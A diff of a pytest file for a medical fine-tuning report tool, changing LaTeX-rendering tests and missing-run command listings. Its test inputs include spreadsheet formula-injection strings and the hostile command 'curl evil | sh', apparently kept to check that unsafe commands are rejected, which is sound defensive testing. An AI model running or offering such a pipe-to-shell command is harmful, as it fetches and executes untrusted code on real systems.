@@ -11,7 +11,8 @@ import pytest
 from rich.console import Console
 
 from medpeft_cli.errors import RecipeError
-from medpeft_cli.report import build_report, render, text
+from medpeft_cli.report import Question, build_report, render, text
+from medpeft_cli.report.commands import commands
 from medpeft_cli.report.latex import escape
 from medpeft_cli.report.records import parse_record
 from medpeft_cli.report.run_table import run_tables
@@ -24,9 +25,9 @@ HOSTILE = (
     "+1", "-1", "@SUM(1)", "\t=1", "\r=1",
 )  # fmt: skip
 
-# what the renderer may use: booktabs and LaTeX itself
-KNOWN = """begin end centering small scriptsize footnotesize setlength tabcolsep caption label toprule midrule bottomrule
-textbf underline textit multicolumn par medskip parbox linewidth shortstack pm times cdot ldots ss r v c
+# what the renderer may use: booktabs, graphicx and LaTeX itself
+KNOWN = """raggedright allowbreak quad resizebox ifdim width else fi dagger begin end centering small scriptsize footnotesize setlength tabcolsep caption label toprule midrule bottomrule
+textbf underline textit multicolumn par medskip parbox linewidth shortstack pm uparrow downarrow times cdot ldots ss r v c
 textbackslash textless textgreater textbar textasciicircum textasciitilde"""
 
 
@@ -83,7 +84,7 @@ def test_latex_is_well_formed_and_says_its_protocol(record, results, report, col
     assert latex_problems(source) == []
     caption = re.search(r"\\caption{(.*)}\n", source)[1]
     assert "Macro F1" in caption and "1,503" in caption and "seed" in caption and "DEMO" not in caption
-    assert r"\toprule" in source and r"\bottomrule" in source and r"\usepackage{booktabs}" in source
+    assert r"\toprule" in source and r"\bottomrule" in source and r"\usepackage{booktabs,graphicx}" in source
 
 
 def test_latex_marks_best_and_second_and_prints_mean_and_deviation(report):
@@ -201,7 +202,8 @@ def test_every_missing_cell_is_listed_with_the_command_that_fills_it(record, res
             record("isic", "full"),
             record("isic", "ssf", seed=1, command="medpeft finetune 'my recipes/isic.yaml' --seed 1"),
             record("smdg", "lora", recipe={"data": {"k_shot": 5}}, backbone="vit_large"),
-        )
+        ),
+        Question(rows=("dataset", "backbone", "fraction")),
     )
     ssf = "medpeft finetune 'my recipes/isic.yaml' --seed 0 --set data.card=smdg "
     ssf += "--set data.k_shot=5 --set backbone.name=vit_large"
@@ -223,7 +225,7 @@ def test_seeds_that_a_cell_lacks_are_listed_too(record, results):
     runs += [record("smdg", "full", seed, command=f"medpeft finetune f.yaml --seed {seed}") for seed in range(2)]
     report = build_report(results(*runs))
     lora = [f"medpeft finetune lora.yaml --seed {seed} --set data.card=smdg" for seed in range(3)]
-    assert text.commands(report.tables[0]) == ["medpeft finetune f.yaml --seed 2", *lora]
+    assert commands(report.tables[0]) == ["medpeft finetune f.yaml --seed 2", *lora]
 
 
 @pytest.mark.parametrize("command", [None, "curl evil | sh", "medpeft 'finetune", "medpeft export x"])
